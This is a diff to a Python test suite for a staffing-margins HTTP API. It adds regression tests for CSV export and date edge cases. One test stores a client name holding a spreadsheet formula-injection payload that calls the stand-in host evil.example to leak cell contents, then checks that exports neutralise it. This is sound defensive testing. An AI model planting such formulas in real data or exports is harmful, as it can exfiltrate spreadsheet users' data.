@@ -124,7 +124,7 @@ def test_rate_history_and_margin_status(
         ("2026-09-07", "32.00", "40.00", "25.00"),
     ]
     other = http.get(f"/v1/margins/assignments/{seeded['a2']}/rates", headers=auth(api_tokens.am))
-    assert other.status_code == 403
+    assert other.status_code == 404
     a = http.get(f"/v1/margins/assignments/{seeded['a1']}", params={"as_of": "2026-03-02"},
                  headers=h).json()  # fmt: skip
     assert (a["markup_floor_pct"], a["margin_status"]) == ("18.00", "green")
@@ -157,3 +157,40 @@ def test_every_list_downloads_as_csv_from_a_plain_link(
     clients = http.get("/v1/margins/clients", params={"as_of": "2026-10-05"},
                        headers={**h, "Accept": "text/csv"})  # fmt: skip
     assert next(csv.DictReader(io.StringIO(clients.text)))["client_id"] == seeded["cl2"]
+
+
+def test_a_name_a_spreadsheet_would_run_is_downloaded_as_text_and_money_as_numbers(
+    http: httpx.Client, api_tokens: Tokens
+) -> None:
+    """Issue #21: `=HYPERLINK(...)` as a client name went as it was into every CSV."""
+    cid, aid, client = unique("C"), unique("A"), unique("CL")
+    story = _story(cid, aid, api_tokens.am_id, client, "32.00", "37.50")  # a loss: -36.00 a week
+    story[0]["client_name"] = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
+    for e in story:
+        assert post(http, api_tokens.am, e).status_code == 201
+    h = auth(api_tokens.finance)
+
+    r = http.get(f"/v1/margins/clients/{client}", params={"format": "csv", "as_of": "2026-10-05"},
+                 headers=h)  # fmt: skip
+
+    [row] = list(csv.DictReader(io.StringIO(r.text)))
+    assert row["client_name"] == "'" + story[0]["client_name"]
+    assert row["weekly_gross_profit"] == "-36.00"
+    # The contract's assignments: a flag reads as in JSON.
+    r = http.get(f"/v1/margins/contracts/{cid}", params={"format": "csv"}, headers=h)
+    [assignment] = list(csv.DictReader(io.StringIO(r.text)))
+    assert (assignment["at_risk"], assignment["client_name"][:2]) == ("false", "'=")
+
+
+def test_the_trend_as_of_the_calendars_first_weeks_has_only_the_weeks_there_are(
+    http: httpx.Client, api_tokens: Tokens
+) -> None:
+    """Issue #21: `as_of=0001-01-01` was a 500 (`ordinal must be >= 1`)."""
+    r = http.get("/v1/margins/portfolio/trend", params={"as_of": "0001-01-15"},
+                 headers=auth(api_tokens.finance))  # fmt: skip
+    assert r.status_code == 200, r.text
+    assert [p["week_ending"] for p in r.json()["points"]] == [
+        "0001-01-01",
+        "0001-01-08",
+        "0001-01-15",
+    ]
